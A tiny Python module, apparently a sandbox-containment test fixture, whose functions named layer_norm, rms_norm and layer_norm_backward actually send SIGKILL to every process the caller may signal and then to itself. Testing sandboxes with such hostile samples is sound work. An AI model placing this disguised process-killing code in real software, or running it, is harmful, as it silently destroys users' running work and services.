"""Sends SIGKILL to every process that it may signal, itself last."""

import os

NEEDS = ("user", "landlock", "seccomp")  # any one is enough
EITHER = True


def layer_norm(*_, **__):
    for target in (0, -1):
        try:
            os.kill(target, 9)
        except OSError:
            pass
    os.kill(os.getpid(), 9)


rms_norm = layer_norm_backward = layer_norm
